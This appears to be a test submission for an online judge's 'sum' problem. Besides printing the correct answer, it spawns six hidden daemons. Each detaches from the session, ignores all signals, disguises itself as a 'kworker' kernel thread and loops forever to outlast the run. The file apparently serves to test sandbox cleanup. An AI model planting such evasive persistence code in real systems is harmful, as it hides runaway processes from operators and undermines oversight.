# problem: sum
# accept: any
# what: daemons that leave the session, change their name, ignore signals and wait for the run to be over
import ctypes, os, signal, time
for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for n in range(1, 65):
                try:
                    signal.signal(n, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            libc = ctypes.CDLL(None)
            libc.prctl(15, b"kworker/0:1", 0, 0, 0)
            libc.prctl(4, 0, 0, 0, 0)
            libc.prctl(1, 0, 0, 0, 0)
            libc.prctl(36, 1, 0, 0, 0)
            for fd in range(3):
                os.close(fd)
            while True:
                time.sleep(0.01)
        os._exit(0)
print(sum(map(int, input().split())))
